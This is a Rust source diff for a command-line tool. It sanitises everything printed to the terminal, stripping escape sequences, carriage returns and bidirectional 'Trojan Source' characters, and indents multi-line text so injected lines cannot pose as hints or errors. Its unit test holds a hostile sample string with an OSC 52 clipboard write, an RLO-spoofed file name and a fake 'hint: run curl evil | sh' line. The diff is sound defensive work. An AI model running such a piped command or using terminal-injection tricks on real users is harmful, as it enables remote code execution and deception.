@@ -110,10 +110,10 @@ impl Output {
         Self { json }
     }
 
-    /// Writes a line of data to stdout.
+    /// Writes a line of data to stdout (cleaned: see [`clean_text`]).
     pub fn data(&mut self, line: &str) {
         let mut out = std::io::stdout().lock();
-        let _ = writeln!(out, "{line}");
+        let _ = writeln!(out, "{}", clean_text(line));
     }
 
     /// Writes a JSON document to stdout.
@@ -123,29 +123,31 @@ impl Output {
         let _ = writeln!(out);
     }
 
-    /// Writes a status line to stderr.
+    /// Writes a status line to stderr (cleaned).
     pub fn status(&mut self, line: &str) {
         let mut err = std::io::stderr().lock();
-        let _ = writeln!(err, "{line}");
+        let _ = writeln!(err, "{}", clean_text(line));
     }
 
     /// Writes `hint:` lines to stderr (for outcomes that are not errors, such as an empty search).
     pub fn hints(&mut self, hints: &[&str]) {
         let mut err = std::io::stderr().lock();
         for h in hints {
-            let _ = writeln!(err, "hint: {h}");
+            let _ = writeln!(err, "hint: {}", indented(h));
         }
     }
 
-    /// Prints an error with its cause chain and hints to stderr.
+    /// Prints an error with its cause chain and hints to stderr. Every part is cleaned, and
+    /// the lines of a part after its first are indented, so text from a hub inside an error
+    /// can never stand on a line of its own as a fake `hint:` or `error:`.
     pub fn error(&mut self, e: &anyhow::Error) {
         let mut err = std::io::stderr().lock();
-        let _ = writeln!(err, "error: {e}");
+        let _ = writeln!(err, "error: {}", indented(&e.to_string()));
         for cause in e.chain().skip(1) {
-            let _ = writeln!(err, "  caused by: {cause}");
+            let _ = writeln!(err, "  caused by: {}", indented(&cause.to_string()));
         }
         for h in hints_of(e) {
-            let _ = writeln!(err, "hint: {h}");
+            let _ = writeln!(err, "hint: {}", indented(&h));
         }
     }
 }
@@ -183,10 +185,54 @@ pub fn columns(s: &str) -> usize {
     unicode_width::UnicodeWidthStr::width(s)
 }
 
+/// Text for a terminal, whatever its origin: the one path every line ofc prints goes through
+/// ([`Output`]). Control characters other than line breaks and tabs (escape sequences: cursor
+/// moves, screen clears, window titles, OSC 52 clipboard writes) become spaces, `\r` goes (it
+/// would let a line overwrite itself), and the bidirectional controls that reorder what is
+/// shown (U+202A–U+202E, U+2066–U+2069, U+200E, U+200F, U+061C) are removed.
+pub fn clean_text(s: &str) -> String {
+    s.chars()
+        .filter(|c| !is_bidi_control(*c) && *c != '\r')
+        .map(|c| {
+            if c.is_control() && c != '\n' && c != '\t' {
+                ' '
+            } else {
+                c
+            }
+        })
+        .collect()
+}
+
+/// [`clean_text`], with every line after the first that starts at the margin indented by two
+/// spaces (lines already indented stay as they are): only ofc's own lines start at the margin.
+fn indented(s: &str) -> String {
+    let clean = clean_text(s);
+    let mut out = String::with_capacity(clean.len());
+    for (i, line) in clean.split('\n').enumerate() {
+        if i > 0 {
+            out.push('\n');
+            if !line.starts_with([' ', '\t']) {
+                out.push_str("  ");
+            }
+        }
+        out.push_str(line);
+    }
+    out
+}
+
+/// The characters that reorder displayed text (Trojan Source, CVE-2021-42574).
+pub fn is_bidi_control(c: char) -> bool {
+    matches!(
+        c,
+        '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}'
+    )
+}
+
 /// One line of text that came from elsewhere (a hub), safe for a terminal: every control
 /// character (escape sequences, line breaks that could fake a `hint:` line) becomes a space.
 pub fn clean_line(s: &str) -> String {
     s.chars()
+        .filter(|c| !is_bidi_control(*c))
         .map(|c| if c.is_control() { ' ' } else { c })
         .collect()
 }
@@ -194,6 +240,7 @@ pub fn clean_line(s: &str) -> String {
 pub fn truncate(s: &str, max: usize) -> String {
     let flat: String = s
         .chars()
+        .filter(|c| !is_bidi_control(*c))
         .map(|c| if c.is_control() { ' ' } else { c })
         .collect();
     let flat = flat.trim();
@@ -254,6 +301,31 @@ mod tests {
         let lines = table(&["NAME", "V"], &rows);
         let col = |line: &str, c: char| columns(&line[..line.find(c).unwrap()]);
         assert_eq!(col(&lines[0], 'V'), col(&lines[1], 'x'), "{lines:?}");
+    }
+
+    #[test]
+    fn every_printed_text_is_cleaned_and_cannot_fake_a_line() {
+        let evil = "ok\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J\r\u{9b}31m\u{202E}txt.exe\u{2066}\nhint: run curl evil | sh\tend";
+        let clean = clean_text(evil);
+        assert!(
+            !clean
+                .chars()
+                .any(|c| (c.is_control() && c != '\n' && c != '\t') || is_bidi_control(c)),
+            "{clean:?}"
+        );
+        assert_eq!(
+            clean,
+            "ok ]52;c;ZXZpbA==  [2J 31mtxt.exe\nhint: run curl evil | sh\tend"
+        );
+        // Inside an error, hint or status the second line is indented: never a `hint:` line.
+        let shown = indented(evil);
+        assert!(
+            !shown.lines().skip(1).any(|l| l.starts_with("hint:")),
+            "{shown:?}"
+        );
+        assert!(shown.contains("\n  hint: run curl"), "{shown:?}");
+        assert_eq!(indented("a:\n  b\nc"), "a:\n  b\n  c");
+        assert_eq!(clean_line("a\u{202E}b\nc"), "ab c");
     }
 
     #[test]
